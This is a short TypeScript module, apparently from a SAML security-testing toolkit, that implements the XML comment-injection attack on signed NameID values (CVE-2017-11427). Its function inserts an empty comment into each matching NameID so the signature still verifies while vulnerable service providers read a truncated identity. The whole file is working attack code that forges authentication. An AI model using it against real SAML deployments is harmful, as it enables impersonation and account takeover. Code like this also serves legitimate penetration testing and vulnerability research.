// Comment injection into a signed NameID (Duo Labs 2018, CVE-2017-11427 and siblings). Exclusive
// c14n without comments drops comments, so an empty comment added after signing leaves every
// digest intact; an SP that reads only the first text node sees the value cut at the comment.
import { NS } from '../constants.ts';
import { descendants, parseXml, serialize } from '../xml.ts';

/**
 * Put `<!---->` into every saml:NameID whose text is `signedValue`, right after `visiblePrefix`
 * (which must be a proper prefix of it). Throws when no NameID has that value.
 */
export function injectNameIdComment(xml: string, signedValue: string, visiblePrefix: string): string {
  if (!signedValue.startsWith(visiblePrefix) || visiblePrefix.length === 0 || visiblePrefix === signedValue) {
    throw new Error(`"${visiblePrefix}" is not a proper prefix of "${signedValue}"`);
  }
  const doc = parseXml(xml);
  const targets = descendants(doc.documentElement!, NS.saml, 'NameID').filter((el) => (el.textContent ?? '') === signedValue);
  if (targets.length === 0) throw new Error(`no saml:NameID with the value "${signedValue}"`);
  for (const el of targets) {
    while (el.firstChild) el.removeChild(el.firstChild);
    el.appendChild(doc.createTextNode(visiblePrefix));
    el.appendChild(doc.createComment(''));
    el.appendChild(doc.createTextNode(signedValue.slice(visiblePrefix.length)));
  }
  return serialize(doc);
}
